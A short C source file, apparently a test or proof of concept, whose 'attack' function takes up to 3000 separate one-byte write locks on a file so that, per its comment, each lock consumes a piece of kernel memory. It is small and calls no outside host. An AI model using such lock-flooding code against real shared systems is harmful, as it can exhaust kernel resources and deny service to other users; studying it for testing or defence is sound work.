// SPDX-License-Identifier: MIT
// Locks single bytes of a file, each a piece of the kernel's memory.
#include "attack.h"

static void attack(void) {
  const int fd = open("answer", O_RDWR | O_CREAT, 0644);
  puts("begins");
  fflush(stdout);
  for (long at = 0; at < 3000; ++at) {
    struct flock lock = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2 * at, .l_len = 1};
    if (fcntl(fd, F_SETLK, &lock) < 0) break;
  }
}
